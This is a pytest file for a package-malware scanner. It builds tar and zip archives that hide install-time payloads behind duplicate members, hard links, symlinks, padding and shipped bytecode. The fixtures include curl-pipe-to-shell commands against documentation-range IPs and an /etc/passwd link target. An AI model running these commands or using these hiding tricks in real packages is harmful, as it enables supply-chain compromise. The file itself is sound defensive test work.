"""The archive reader against real extraction: what `tarfile`/`zipfile` leave on disk is
what Warden scans (issue 18 item 4). Every archive is built by hand here; nothing is run."""

from __future__ import annotations

import bz2
import contextlib
import io
import os
import posixpath
import tarfile
import time
import tracemalloc
import warnings
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detector.code.archive import is_text_member
from detector.code.extract import read_package
from detector.code.scan import scan_path

PAYLOAD = 'import os\nos.system("curl http://203.0.113.9/x.sh | sh")\n'
CLEAN = "from setuptools import setup\nsetup(name='tidy')\n"


def _tar(path: Path, members: list[tuple]) -> Path:
    """members: (name, kind, data-or-linkname); kind file | sym | hard | dir | fifo | chr."""
    kinds = {"file": tarfile.REGTYPE, "sym": tarfile.SYMTYPE, "hard": tarfile.LNKTYPE,
             "dir": tarfile.DIRTYPE, "fifo": tarfile.FIFOTYPE, "chr": tarfile.CHRTYPE}
    with tarfile.open(path, "w:gz") as tar:
        for name, kind, value in members:
            info = tarfile.TarInfo(name)
            info.type = kinds[kind]
            info.mode = 0o755 if kind == "dir" else 0o644
            if kind == "file":
                data = value if isinstance(value, bytes) else value.encode()
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
            else:
                info.linkname = value or ""
                tar.addfile(info)
    return path


def _zip(path: Path, members: list[tuple[str, str]]) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are the point
        with zipfile.ZipFile(path, "w") as archive:
            for name, text in members:
                archive.writestr(name, text)
    return path


def _extracted(path: Path, dest: Path, tar_filter: str | None = "data") -> dict[str, str]:
    """Text files as real extraction leaves them (links followed by the file system;
    `tar_filter`: pip's "data", or None, tarfile's default)."""
    if zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as archive:
            archive.extractall(dest)
    else:
        with tarfile.open(path) as tar, warnings.catch_warnings():
            warnings.simplefilter("ignore")  # the default filter's deprecation warning
            tar.extractall(dest, filter=tar_filter)
    out = {}
    for here, dirs, names in os.walk(dest, followlinks=True):
        real = os.path.realpath(here)
        if any(os.path.realpath(up) == real for up in Path(here).parents):
            dirs[:] = []  # a folder linked into itself: walked once
            continue
        for name in names:
            full = Path(here) / name
            rel = full.relative_to(dest).as_posix()
            if is_text_member(rel) and full.exists():
                out[rel] = full.read_text()
    return out


def _rooted(files: dict[str, str], top: str) -> dict[str, str]:
    return {f"{top}/{k}": v for k, v in files.items()}


def _rules(result) -> set[str]:
    return {f.rule for f in result.findings}


def test_duplicate_setup_py_in_tar_last_wins_like_extraction(tmp_path):
    path = _tar(tmp_path / "dup-1.0.tar.gz", [
        ("dup-1.0/setup.py", "file", CLEAN), ("dup-1.0/setup.py", "file", PAYLOAD)])
    package = read_package(path)
    assert _rooted(package.files, "dup-1.0") == _extracted(path, tmp_path / "x")
    assert package.files["setup.py"] == PAYLOAD
    result = scan_path(path)
    assert result.flagged and {"archive-duplicate-code", "shell-download-exec"} <= _rules(result)


@pytest.mark.parametrize("suffix", [".zip", ".whl"])
def test_duplicate_member_in_zip_and_wheel_last_wins_like_extraction(tmp_path, suffix):
    path = _zip(tmp_path / f"dup-1.0-py3-none-any{suffix}", [
        ("dup/__init__.py", "x = 1\n"), ("dup/__init__.py", PAYLOAD)])
    package = read_package(path)
    assert package.files == _extracted(path, tmp_path / "x")
    assert package.files["dup/__init__.py"] == PAYLOAD
    result = scan_path(path)
    assert result.flagged and "archive-duplicate-code" in _rules(result)


def test_duplicate_non_code_member_is_noted_not_flagged(tmp_path):
    path = _tar(tmp_path / "d-1.0.tar.gz", [
        ("d-1.0/setup.py", "file", CLEAN), ("d-1.0/README.md", "file", "a"),
        ("d-1.0/README.md", "file", "b")])
    result = scan_path(path)
    assert "archive-duplicate-name" in _rules(result) and not result.flagged


def test_hard_link_scans_its_target_under_the_link_name(tmp_path):
    path = _tar(tmp_path / "h-1.0.tar.gz", [
        ("h-1.0/notes.txt", "file", PAYLOAD), ("h-1.0/setup.py", "hard", "h-1.0/notes.txt")])
    package = read_package(path)
    assert _rooted(package.files, "h-1.0") == _extracted(path, tmp_path / "x")
    result = scan_path(path)
    assert "shell-download-exec" in _rules(result) and "archive-link" in _rules(result)
    assert any(f.file == "setup.py" and f.tier == "install" for f in result.findings
               if f.rule == "shell-download-exec")


def test_symlink_to_a_member_resolves_like_extraction(tmp_path):
    path = _tar(tmp_path / "s-1.0.tar.gz", [
        ("s-1.0/data/real.txt", "file", PAYLOAD), ("s-1.0/setup.py", "sym", "data/real.txt")])
    package = read_package(path)
    assert _rooted(package.files, "s-1.0") == _extracted(path, tmp_path / "x")
    assert "shell-download-exec" in _rules(scan_path(path))


def test_symlinked_folder_lends_its_files(tmp_path):
    path = _tar(tmp_path / "f-1.0.tar.gz", [
        ("f-1.0/setup.py", "file", CLEAN), ("f-1.0/src/f/__init__.py", "file", PAYLOAD),
        ("f-1.0/f", "sym", "src/f")])
    package = read_package(path)
    assert _rooted(package.files, "f-1.0") == _extracted(path, tmp_path / "x")
    assert package.files["f/__init__.py"] == PAYLOAD


def test_licence_symlink_is_a_finding_that_does_not_flag(tmp_path):
    path = _tar(tmp_path / "l-1.0.tar.gz", [
        ("l-1.0/setup.py", "file", CLEAN), ("l-1.0/docs/LICENSE.txt", "file", "MIT"),
        ("l-1.0/LICENSE", "sym", "docs/LICENSE.txt")])
    result = scan_path(path)
    assert "archive-link" in _rules(result) and not result.flagged
    assert any("LICENSE -> docs/LICENSE.txt" in f.evidence for f in result.findings)


@pytest.mark.parametrize("target", ["/etc/passwd", "../../outside.py", "../../../x"])
def test_link_outside_the_package_flags_it_unread(tmp_path, target):
    path = _tar(tmp_path / "o-1.0.tar.gz", [
        ("o-1.0/setup.py", "file", CLEAN), ("o-1.0/pkg/mod.py", "sym", target)])
    result = scan_path(path)
    assert result.flagged and "archive-link-outside" in _rules(result)


@pytest.mark.parametrize("kind", ["fifo", "chr"])
def test_device_or_fifo_flags_the_package(tmp_path, kind):
    path = _tar(tmp_path / "v-1.0.tar.gz", [
        ("v-1.0/setup.py", "file", CLEAN), ("v-1.0/thing", kind, None)])
    result = scan_path(path)
    assert result.flagged and "archive-special-file" in _rules(result)


def test_zip_symlink_member_is_resolved_inside(tmp_path):
    path = tmp_path / "z-1.0.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("z/real.txt", PAYLOAD)
        info = zipfile.ZipInfo("z/__init__.py")
        info.external_attr = (0o120777) << 16
        archive.writestr(info, "real.txt")
    package = read_package(path)
    assert package.files["z/__init__.py"] == PAYLOAD
    assert "archive-link" in {f.rule for f in package.findings}


def test_huge_pax_header_is_refused_before_it_is_read(tmp_path):
    """A few hundred bytes of .tar.bz2 that declare a 1 GB pax header."""
    header = tarfile.TarInfo("././@PaxHeader")
    header.type = tarfile.XHDTYPE
    header.size = 1_000_000_000
    block = header.tobuf(format=tarfile.USTAR_FORMAT)
    raw = bz2.compress(block + b"\0" * 20_000_000)
    path = tmp_path / "pax-1.0.tar.bz2"
    path.write_bytes(raw)
    assert len(raw) < 2000
    tracemalloc.start()
    start = time.process_time()
    result = scan_path(path)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert time.process_time() - start < 2.0 and peak < 64 << 20
    assert "archive-limit-exceeded" in _rules(result) or result.error


def test_bytes_source_reads_like_a_path(tmp_path):
    path = _tar(tmp_path / "b-1.0.tar.gz", [("b-1.0/setup.py", "file", CLEAN)])
    assert read_package(path.read_bytes(), filename=path.name).files == read_package(path).files


def test_member_written_after_a_hard_link_changes_both_names(tmp_path):
    """One inode, two names: rewriting the target rewrites what the link reads."""
    path = _tar(tmp_path / "r-1.0.tar.gz", [
        ("r-1.0/notes.txt", "file", CLEAN), ("r-1.0/setup.py", "hard", "r-1.0/notes.txt"),
        ("r-1.0/notes.txt", "file", PAYLOAD)])
    package = read_package(path)
    assert _rooted(package.files, "r-1.0") == _extracted(path, tmp_path / "x")
    assert package.files["setup.py"] == PAYLOAD
    assert "shell-download-exec" in _rules(scan_path(path))


def test_member_written_through_a_hard_link_changes_its_target(tmp_path):
    path = _tar(tmp_path / "w-1.0.tar.gz", [
        ("w-1.0/w/__init__.py", "file", "x = 1\n"), ("w-1.0/alias.txt", "hard",
                                                     "w-1.0/w/__init__.py"),
        ("w-1.0/alias.txt", "file", PAYLOAD)])
    package = read_package(path)
    assert _rooted(package.files, "w-1.0") == _extracted(path, tmp_path / "x")
    assert package.files["w/__init__.py"] == PAYLOAD


def test_hard_link_to_a_symlink_is_a_symlink_relative_to_its_own_folder(tmp_path):
    """os.link does not follow a symlink: the new name is that symlink, read from the
    new name's folder."""
    path = _tar(tmp_path / "k-1.0.tar.gz", [
        ("k-1.0/a/real.py", "file", CLEAN), ("k-1.0/real.py", "file", PAYLOAD),
        ("k-1.0/a/s.py", "sym", "real.py"), ("k-1.0/setup.py", "hard", "k-1.0/a/s.py")])
    package = read_package(path)
    assert _rooted(package.files, "k-1.0") == _extracted(path, tmp_path / "x")
    assert package.files["setup.py"] == PAYLOAD


def test_hard_link_over_an_existing_code_name_flags_python_versions_differ(tmp_path):
    """Where CPython versions extract differently (a hard link over an existing name:
    3.11 writes the target member's bytes through it, newer releases replace it), the
    scanner reads one version and flags the package."""
    path = _tar(tmp_path / "v-1.0.tar.gz", [
        ("v-1.0/a.txt", "file", PAYLOAD), ("v-1.0/setup.py", "hard", "v-1.0/a.txt"),
        ("v-1.0/p.txt", "file", CLEAN), ("v-1.0/a.txt", "hard", "v-1.0/p.txt")])
    package = read_package(path)
    assert _rooted(package.files, "v-1.0") == _extracted(path, tmp_path / "x")
    result = scan_path(path)
    assert result.flagged and "archive-duplicate-code" in _rules(result)
    assert any("Python versions" in f.evidence for f in result.findings)


NAMES = ["setup.py", "a.py", "pkg/__init__.py", "pkg/m.py", "b.txt", "lnk", "lnk/x.py"]
TARGETS = [*NAMES, "../pkg/m.py", "pkg", ".", "../g-1/a.py"]
member = st.one_of(
    st.tuples(st.sampled_from(NAMES), st.just("file"), st.sampled_from(["x = 1\n", "y = 2\n"])),
    st.tuples(st.sampled_from(NAMES), st.sampled_from(["sym", "hard"]),
              st.sampled_from(TARGETS)),
    st.tuples(st.sampled_from(NAMES), st.just("dir"), st.just("")))


@settings(max_examples=80, deadline=None)
@given(members=st.lists(member, min_size=1, max_size=8),
       tar_filter=st.sampled_from(["data", None]))
def test_generated_archives_read_as_extraction_leaves_them(members, tar_filter,
                                                           tmp_path_factory):
    """Random duplicates, folders and links (inside, outside, to folders, pointing
    nowhere): whatever tarfile's own extraction (pip's `data` filter, or the default)
    writes into the package, read_package reads, name for name and byte for byte, and
    nothing else but links that extraction leaves unresolvable. A package with a link
    that leaves it is flagged instead (pip refuses it)."""
    tmp = tmp_path_factory.mktemp("gen")
    built = []
    for name, kind, value in members:
        if kind == "sym":
            base = posixpath.dirname(name)
            built.append((f"g-1/{name}", "sym", posixpath.relpath(value, base or ".")))
        elif kind == "hard":
            built.append((f"g-1/{name}", "hard", posixpath.normpath(f"g-1/{value}")))
        else:
            built.append((f"g-1/{name}", kind, value))
    path = _tar(tmp / "g-1.tar.gz", built)
    try:
        expected = _extracted(path, tmp / "x", tar_filter)
    except (tarfile.TarError, OSError, KeyError, RecursionError):
        return  # extraction itself refuses this archive: nothing to compare
    package = read_package(path)
    if "archive-link-outside" in _rules(package):
        assert scan_path(path).flagged
        return
    expected = {k: v for k, v in expected.items() if k.startswith("g-1/")}
    read = _rooted(package.files, "g-1")
    # What extraction leaves is read name for name and byte for byte.
    assert {k: read.get(k) for k in expected} == expected
    # The scanner may read more only where extraction left a link that resolves nowhere
    # (a link cycle) or a name the walk above did not list twice (a folder linked into
    # itself): reading more is safe.
    for extra in read.keys() - expected.keys():
        left = tmp / "x" / extra
        with contextlib.suppress(OSError):  # ELOOP: a cycle
            assert (os.path.lexists(left) and not left.exists()) \
                or left.read_text() == read[extra], extra


def test_deep_distinct_names_are_bounded(tmp_path):
    """A few kilobytes of names that each imply thousands of new folders stop reading
    (decisive) instead of filling memory."""
    path = tmp_path / "deep-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for i in range(1500):
            info = tarfile.TarInfo(f"deep-1.0/d{i}/" + "a/" * 2000 + "x.py")
            info.size = 2
            tar.addfile(info, io.BytesIO(b"x\n"))
    tracemalloc.start()
    start = time.process_time()
    result = scan_path(path)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert time.process_time() - start < 2.0 and peak < 128 << 20
    assert result.flagged and "archive-limit-exceeded" in _rules(result)


@pytest.mark.parametrize("kind", ["wheel", "sdist"])
def test_padding_code_past_the_file_limit_does_not_hide_it(tmp_path, kind):
    """A payload padded past `max_file_bytes` is never read, but it installs and runs:
    the package goes to review; a large data file does not."""
    payload = "import os\nos.system('curl http://203.0.113.7/x | sh')\n"
    padded = payload + "# " + "".join(f"{i:x}" for i in range(1_100_000)) + "\n"
    assert len(padded) > 5_000_000
    data = "[" + ",".join(str(i) for i in range(900_000)) + "]"
    for member, want in (("evil/__init__.py", True), ("evil/table.json", False)):
        text = padded if member.endswith(".py") else data
        if kind == "wheel":
            path = _zip(tmp_path / f"evil-1.0-{want}-py3-none-any.whl",
                        [(member, text), ("evil/ok.py", "x = 1\n"),
                         ("evil-1.0.dist-info/METADATA", "Name: evil\n")])
        else:
            path = _tar(tmp_path / f"evil-{want}-1.0.tar.gz",
                        [(f"evil-1.0/{member}", "file", text),
                         ("evil-1.0/setup.py", "file", "from setuptools import setup\nsetup()\n")])
        result = scan_path(path)
        assert ("oversized-code" in _rules(result)) is want, (kind, member, _rules(result))
        assert result.flagged is want, (kind, member, result.score)


PYC = b"\xa7\r\r\n" + (3).to_bytes(4, "little") + b"\0" * 8  # 3.11 magic, unchecked hash


@pytest.mark.parametrize("members,why", [
    ([("evil/__init__.pyc", PYC)], "sourceless"),
    ([("evil/__init__.py", "x = 1\n"), ("evil/__pycache__/__init__.cpython-311.pyc", PYC)],
     "__pycache__"),
    ([("evil/__init__.py", "x = 1\n"), ("evil/__init__.pyc", PYC)], "beside"),
    ([("evil/util.pyo", PYC)], "sourceless"),
])
def test_shipped_bytecode_goes_to_review(tmp_path, members, why):
    """Python imports a sourceless .pyc, and an unchecked-hash .pyc in __pycache__ runs
    instead of its source: an upload that ships bytecode hides code from a source scan."""
    wheel = _zip(tmp_path / "evil-1.0-py3-none-any.whl",
                 [*members, ("evil-1.0.dist-info/METADATA", "Name: evil\n")])
    sdist = _tar(tmp_path / "evil-1.0.tar.gz",
                 [("evil-1.0/setup.py", "file", "from setuptools import setup\nsetup()\n"),
                  *[(f"evil-1.0/{n}", "file", d) for n, d in members]])
    for path in (wheel, sdist):
        result = scan_path(path)
        found = [f for f in result.findings if f.rule == "compiled-bytecode"]
        assert result.flagged and found, path
        assert why in found[0].evidence


def test_bytecode_in_a_local_checkout_is_not_an_upload(tmp_path):
    root = tmp_path / "proj"
    (root / "pkg" / "__pycache__").mkdir(parents=True)
    (root / "pkg" / "__init__.py").write_text("x = 1\n")
    (root / "pkg" / "__pycache__" / "__init__.cpython-311.pyc").write_bytes(PYC)
    assert "compiled-bytecode" not in _rules(scan_path(root))
